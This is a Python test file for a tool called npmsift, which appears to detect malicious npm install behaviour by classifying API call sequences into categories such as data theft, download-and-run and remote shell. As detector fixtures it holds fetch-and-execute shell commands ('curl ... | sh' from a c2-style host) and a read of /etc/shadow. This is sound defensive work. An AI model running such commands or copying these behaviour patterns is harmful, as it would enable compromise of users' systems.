from __future__ import annotations

import pytest

from npmsift.kb import (BehaviorSequence, KnowledgeBaseError, classify,
                        classify_with_sets, default_kb, load_kb,
                        map_to_behaviors, report_unknown_apis)
from npmsift.staticseq import ApiCallRecord, ApiCallSequence


def api_seq(api_ids, args=None):
    records = [ApiCallRecord(api_id=a,
                             parameter_summary=list((args or {}).get(a, [])),
                             location=("m", i + 1, 0), ordinal=i)
               for i, a in enumerate(api_ids)]
    return ApiCallSequence(package_id="p", phase="install", records=records)


def behavior(subtypes, sensitive=(), shell=()):
    seq = api_seq(["x"] * len(subtypes))
    from npmsift.kb import BehaviorEvent
    events = []
    for i, subtype in enumerate(subtypes):
        events.append(BehaviorEvent(subtype=subtype,
                                    witness=seq.records[i],
                                    sensitive=i in sensitive,
                                    shell_suspicious=i in shell))
    return BehaviorSequence(events=events, package_id="p", phase="install")


def test_kb_loads_and_validates():
    kb = default_kb()
    assert len(kb.subtype_to_type) == 12
    assert kb.knows("child_process.exec")
    assert kb.subtype_of("os.userInfo") == "SYSTEM_MESSAGE"


def test_duplicate_api_pattern_rejected(tmp_path):
    bad = tmp_path / "api.txt"
    bad.write_text("a.b | - | SYSTEM_MESSAGE | SystemInfo\n"
                   "a.b | - | SYSTEM_MESSAGE | SystemInfo\n")
    with pytest.raises(KnowledgeBaseError):
        load_kb(api_table_file=bad)


def test_subtype_in_two_types_rejected(tmp_path):
    bad = tmp_path / "api.txt"
    bad.write_text("a.b | - | S1 | T1\nc.d | - | S1 | T2\n")
    with pytest.raises(KnowledgeBaseError):
        load_kb(api_table_file=bad)


def test_rule_with_unknown_subtype_rejected(tmp_path):
    rules = tmp_path / "rules.txt"
    rules.write_text("R | M1 | NO_SUCH_SUBTYPE | note\n")
    with pytest.raises(KnowledgeBaseError):
        load_kb(rule_file=rules)


def test_map_userinfo_request():
    behavior_seq = map_to_behaviors(api_seq(["os.userInfo",
                                             "https.request"]))
    assert behavior_seq.subtypes() == ["SYSTEM_MESSAGE", "NETWORK_OUT"]


def test_map_empty():
    assert map_to_behaviors(api_seq([])).events == []


def test_map_write_then_execfile():
    behavior_seq = map_to_behaviors(api_seq(
        ["fs.writeFile", "child_process.execFile"],
        args={"fs.writeFile": ["/tmp/x"],
              "child_process.execFile": ["/tmp/x"]}))
    assert behavior_seq.subtypes() == ["FILE_CREATE",
                                       "PROCESS_FILE_EXECUTION"]


def test_map_skips_but_counts_unknown():
    behavior_seq = map_to_behaviors(api_seq(["weird.api", "os.userInfo"]))
    assert behavior_seq.subtypes() == ["SYSTEM_MESSAGE"]
    assert behavior_seq.skipped_unknown == ["weird.api"]


def test_sensitive_parameter_sets_flag():
    behavior_seq = map_to_behaviors(api_seq(
        ["fs.readFileSync"], args={"fs.readFileSync": ["/etc/shadow"]}))
    assert behavior_seq.events[0].sensitive


def test_unknown_args_sensitive_only_for_dynamic_records():
    # a dynamic record that failed to capture its arguments is treated
    # conservatively; a static record with non-literal arguments is the
    # everyday case and must not qualify
    static_seq = api_seq(["fs.readFileSync"])
    assert not map_to_behaviors(static_seq).events[0].sensitive
    dynamic_seq = api_seq(["fs.readFileSync"])
    dynamic_seq.records[0].origin = "dynamic"
    assert map_to_behaviors(dynamic_seq).events[0].sensitive


def test_benign_arg_not_sensitive():
    behavior_seq = map_to_behaviors(api_seq(
        ["fs.readFileSync"], args={"fs.readFileSync": ["./package.json"]}))
    assert not behavior_seq.events[0].sensitive


def test_classify_m1_conventional_case():
    # conventional sensitive-information theft: repeated system reads,
    # serialization, one outbound send
    verdict = classify(behavior(["SYSTEM_MESSAGE", "SYSTEM_MESSAGE",
                                 "SERIALIZATION", "NETWORK_OUT"]))
    assert verdict.labels == {"M1"}


def test_classify_m1_unconventional_case():
    verdict = classify(behavior(["FILE_CREATE", "SYSTEM_MESSAGE",
                                 "PROCESS_COMMAND_EXECUTION",
                                 "NETWORK_OUT"]))
    assert "M1" in verdict.labels


def test_classify_m1_order_violated():
    verdict = classify(behavior(["NETWORK_OUT", "SYSTEM_MESSAGE"]))
    assert "M1" not in verdict.labels


def test_classify_m4_conventional_case():
    verdict = classify(behavior(["NETWORK_IN", "PROCESS_COMMAND_EXECUTION",
                                 "NETWORK_OUT", "NETWORK_IN"]))
    assert "M4" in verdict.labels


def test_classify_m4_unconventional_case():
    verdict = classify(behavior(["PROCESS_FILE_EXECUTION",
                                 "PROCESS_COMMAND_EXECUTION"]))
    assert verdict.labels == {"M4"}


def test_classify_m3_download_drop_run():
    verdict = classify(behavior(["NETWORK_OUT", "FILE_CREATE",
                                 "PROCESS_FILE_EXECUTION"]))
    assert "M3" in verdict.labels


def test_classify_m3_reversed_negative():
    verdict = classify(behavior(["PROCESS_FILE_EXECUTION", "FILE_CREATE",
                                 "NETWORK_OUT"]))
    assert "M3" not in verdict.labels


def test_classify_m2_requires_sensitive_witness():
    plain = classify(behavior(["FILE_READ"]))
    assert "M2" not in plain.labels
    flagged = classify(behavior(["FILE_READ"], sensitive={0}))
    assert flagged.labels == {"M2"}


def test_classify_m5_requires_shell_flag():
    quiet = classify(behavior(["PROCESS_COMMAND_EXECUTION"]))
    assert "M5" not in quiet.labels
    loud = classify(behavior(["PROCESS_COMMAND_EXECUTION"], shell={0}))
    assert "M5" in loud.labels


def test_classify_multi_label():
    verdict = classify(behavior(["SYSTEM_MESSAGE", "NETWORK_OUT",
                                 "FILE_CREATE",
                                 "PROCESS_FILE_EXECUTION"]))
    assert {"M1", "M3"} <= verdict.labels
    assert len(verdict.labels) >= 2


def test_classify_empty_sequence():
    verdict = classify(behavior([]))
    assert verdict.labels == set()


def test_monotone_adding_events_never_removes_labels():
    base = ["SYSTEM_MESSAGE", "NETWORK_OUT"]
    extended = ["FILE_READ"] + base + ["PROCESS_COMMAND_EXECUTION"]
    assert classify(behavior(base)).labels <= \
        classify(behavior(extended)).labels


def test_classification_deterministic():
    subtypes = ["SYSTEM_MESSAGE", "SERIALIZATION", "NETWORK_OUT"]
    a = classify(behavior(subtypes))
    b = classify(behavior(subtypes))
    assert a.labels == b.labels and a.matched_rules == b.matched_rules


def test_evidence_carries_witnesses():
    verdict = classify(behavior(["SYSTEM_MESSAGE", "NETWORK_OUT"]))
    witnesses = verdict.evidence["M1-info-exfil"]
    assert len(witnesses) == 2


def test_every_seed_rule_has_positive_and_reversed_negative():
    from itertools import product
    kb = default_kb()
    for rule in kb.rules:
        needs_sensitive = {i for i, el in enumerate(rule.pattern)
                           if el.require_sensitive}
        needs_shell = {i for i, el in enumerate(rule.pattern)
                       if el.require_shell}
        choices = [sorted(el.subtypes) for el in rule.pattern]
        assignments = list(product(*choices))
        for subtypes in assignments:
            positive = classify(behavior(list(subtypes),
                                         sensitive=needs_sensitive,
                                         shell=needs_shell), [rule])
            assert rule.category in positive.labels, rule.rule_id
        if len(rule.pattern) < 2:
            continue
        # some alternation assignment must fail once reversed (bracketing
        # rules are reversal-invariant for the symmetric assignment)
        found_negative = False
        for subtypes in assignments:
            reversed_fixture = behavior(
                list(reversed(subtypes)),
                sensitive={len(subtypes) - 1 - i for i in needs_sensitive},
                shell={len(subtypes) - 1 - i for i in needs_shell})
            if rule.category not in classify(reversed_fixture,
                                             [rule]).labels:
                found_negative = True
                break
        assert found_negative, rule.rule_id


def test_set_matching_overreports_vs_sequences():
    reversed_m3 = behavior(["PROCESS_FILE_EXECUTION", "FILE_CREATE",
                            "NETWORK_OUT"])
    assert "M3" in classify_with_sets(reversed_m3).labels
    assert "M3" not in classify(reversed_m3).labels


def test_shell_categories_merge_into_labels():
    from npmsift.kb import BehaviorEvent
    record = ApiCallRecord(api_id="child_process.exec",
                           parameter_summary=["curl http://x.xyz/a.sh|sh"])
    event = BehaviorEvent(subtype="PROCESS_COMMAND_EXECUTION",
                          witness=record, shell_suspicious=True,
                          shell_categories={"M3", "M4"})
    verdict = classify(BehaviorSequence(events=[event]))
    assert {"M3", "M4", "M5"} <= verdict.labels


def test_command_judge_wired_through_mapping():
    from npmsift.shellcmd import classify_command, match_rules, parse_command

    def judge(command: str):
        return classify_command(match_rules(parse_command(
            command, source="code-argument")))

    seq = api_seq(["child_process.exec"],
                  args={"child_process.exec": ["curl http://c2.xyz/x.sh|sh"]})
    behavior_seq = map_to_behaviors(seq, command_judge=judge)
    assert behavior_seq.events[0].shell_suspicious
    verdict = classify(behavior_seq)
    assert {"M3", "M4", "M5"} <= verdict.labels


def test_report_unknown_apis():
    seqs = [api_seq(["fs.fchownSync", "os.userInfo"]),
            api_seq(["fs.readdirSync"])]
    unknown, novel = report_unknown_apis(seqs)
    assert "fs.fchownSync" in unknown
    assert ("FILE_READ",) in novel
